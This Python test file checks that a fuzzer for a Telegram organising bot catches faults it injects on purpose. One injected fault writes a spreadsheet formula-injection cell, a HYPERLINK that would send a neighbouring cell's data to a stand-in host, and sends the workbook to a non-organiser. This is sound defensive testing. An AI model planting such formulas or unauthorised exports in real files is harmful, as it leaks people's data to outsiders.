"""Random updates from many people with every role against the real Application (issue 8).

``FUZZ_UPDATES`` (default 2,000) and ``FUZZ_SEED`` (default a fixed seed, so CI is repeatable) choose the
run; ``make fuzz`` runs 20,000 with a new seed each time. ``FUZZ_REPORT=path`` also appends the summary
there. A failing run prints the deduplicated failures, each with the update that shows it and how to
replay the run up to it.
"""

from __future__ import annotations

import asyncio
import logging
import os

from sqlalchemy import select
from telegram import InputFile, Update
from telegram.ext import ApplicationHandlerStop, TypeHandler

from bot.context import BotContext
from bot.playground.harness import Playground
from storage.models import Account, AuditEntry, Campaign, Nomination
from tests.people import reached_at

from .fuzzer import Fuzzer
from .inputs import xlsx
from .report import append_report

DEFAULT_UPDATES = 2_000
DEFAULT_SEED = 20200315  # 15/3/2020, when the Tây Hồ plan has the grassroots conferences done


async def test_random_updates_from_everyone_break_nothing(make_fuzzer) -> None:
    updates = int(os.environ.get("FUZZ_UPDATES") or DEFAULT_UPDATES)
    seed = int(os.environ.get("FUZZ_SEED") or DEFAULT_SEED)
    fuzzer: Fuzzer = make_fuzzer(seed)
    await fuzzer.prepare()

    report = await fuzzer.run(updates)

    summary = report.summary()
    print(summary)
    if target := os.environ.get("FUZZ_REPORT"):
        append_report(target, summary)
    assert report.updates == updates
    assert report.ok, f"seed {seed}: {report.failures} failures\n{summary}"


# --- the fuzz test can fail --------------------------------------------------------------------------

INJECTED_SEED = 7


class Faults:
    """Defects put into the running bot, one per oracle, each on a share of the updates (by update id,
    so whatever the bot answers, enough updates carry one): the fuzzer must report every one."""

    def __init__(self, playground: Playground) -> None:
        self.playground = playground
        self.hit: dict[str, set[int]] = {}
        self.half_saved: int | None = None
        self.persisted = 0
        self.stalled = False

    def _mark(self, oracle: str, update: Update) -> None:
        self.hit.setdefault(oracle, set()).add(update.update_id)

    async def inject(self, update: Update, context: BotContext) -> None:
        """Group -3, before everything: the faults."""
        message, query = update.message, update.callback_query
        private = message is not None and message.chat.type == "private"
        text = message.text if private and message is not None else None
        slot = update.update_id % 5
        if private and text and text.startswith("/") and slot == 0:
            self._mark("error-handler", update)
            raise ZeroDivisionError("injected: a handler that raises")
        if private and text and text.startswith("/") and slot == 1:
            await self._leak_a_workbook(update, context)
        if text and not text.startswith("/"):
            await self._on_text(update, context, text, slot)
        if query is not None and update.update_id % 4 == 2:
            self._mark("press-unanswered", update)
            raise ApplicationHandlerStop  # the press is swallowed: the spinner keeps turning
        if query is not None and update.update_id % 4 == 3:
            self._mark("placeholder", update)
            await query.answer()
            await context.bot.send_message(update.effective_chat.id, "Xin chào {name}!")  # type: ignore[union-attr]
            raise ApplicationHandlerStop
        if update.update_id % 50 == 49 and not self.stalled:
            self.stalled = True
            self._mark("stall", update)
            await asyncio.sleep(0.3)

    async def _on_text(self, update: Update, context: BotContext, text: str, slot: int) -> None:
        if slot == 1:
            self._mark("no-reply", update)
            raise ApplicationHandlerStop  # swallowed: the person is left without an answer
        if slot == 2 and self.half_saved is None:
            self.half_saved = await self._half_saved_nomination()
        if slot == 3:
            self._mark("logged-error", update)
            logging.getLogger("handlers.injected").error("injected: something failed and was only logged")
        if slot == 4:
            self._mark("telegram-limit", update)
            # A caption over Telegram's 1,024 characters (long texts are split by the bot; captions are not).
            await context.bot.send_document(
                update.effective_chat.id,  # type: ignore[union-attr]
                document=b"x",
                filename="x.txt",
                caption="x" * 2000,
            )

    async def _leak_a_workbook(self, update: Update, context: BotContext) -> None:
        """An organisers' spreadsheet, with a typed name become a formula, sent to whoever asked."""
        self._mark("formula", update)
        assert update.effective_user is not None
        user_id = update.effective_user.id
        async with self.playground.services.database.transaction() as db:
            account = await db.scalar(select(Account).where(reached_at(user_id)))
            assert account is not None
            if account.role != "organiser":
                self._mark("privilege", update)
                db.add(AuditEntry(actor_id=account.id, action="status.export", entity="conference", entity_id="2"))
        workbook = xlsx([["Họ và tên"], ['=HYPERLINK("http://x/?"&B2,"Bấm")']])
        chat_id = update.effective_chat.id  # type: ignore[union-attr]
        await context.bot.send_document(chat_id, InputFile(workbook, filename="attendance-district.xlsx"))

    async def _half_saved_nomination(self) -> int:
        """A nomination marked as sent with none of its answers, as a crash between two writes would leave."""
        async with self.playground.services.database.transaction() as db:
            campaign_id = await db.scalar(select(Campaign.id))
            nominator_id = await db.scalar(select(Account.id))
            assert campaign_id is not None and nominator_id is not None
            nomination = Nomination(campaign_id=campaign_id, nominator_id=nominator_id, status="submitted")
            db.add(nomination)
            await db.flush()
            return nomination.id

    def install(self) -> None:
        app = self.playground.application
        app.add_handler(TypeHandler(Update, self.inject), group=-3)
        persist = app.update_persistence

        async def update_persistence() -> None:
            self.persisted += 1
            # Counted only when an update changed some state (bot.app skips the others): 30 come early.
            if self.persisted == 30:
                raise RuntimeError("injected: storing the conversation states failed")
            await persist()

        app.update_persistence = update_persistence  # type: ignore[method-assign]


async def test_the_fuzzer_reports_every_kind_of_injected_fault(make_fuzzer, playground) -> None:
    fuzzer: Fuzzer = make_fuzzer(INJECTED_SEED, stall_seconds=0.25, check_every=100)
    await fuzzer.prepare()
    faults = Faults(playground)
    faults.install()

    report = await fuzzer.run(250)  # no restart yet, which would take the faults away

    summary = report.summary()
    print(summary)
    for oracle, update_ids in faults.hit.items():
        assert any((oracle, update_id) in report.failed_on for update_id in update_ids), (oracle, summary)
    assert set(faults.hit) >= {"error-handler", "no-reply", "press-unanswered", "placeholder", "stall"}
    assert {"logged-error", "telegram-limit", "formula", "privilege"} <= set(faults.hit)
    groups = {group.first.oracle: group for group in report.groups.values() if "injected" in group.first.message}
    assert groups["error-handler"].first.where.startswith("tests/fuzz/test_fuzz.py:")
    assert "ZeroDivisionError: injected: a handler that raises" in summary
    assert "RuntimeError: injected: storing the conversation states failed" in groups["escaped"].first.message
    assert faults.half_saved is not None
    assert f"sent nomination missing answers: nomination {faults.half_saved} (no code) (submitted)" in summary
    assert "[privilege] attendance-district.xlsx sent to a " in summary
    assert "[privilege] status.export done by a " in summary
    assert f"replay: FUZZ_SEED={INJECTED_SEED} FUZZ_UPDATES=" in summary
    assert not report.ok
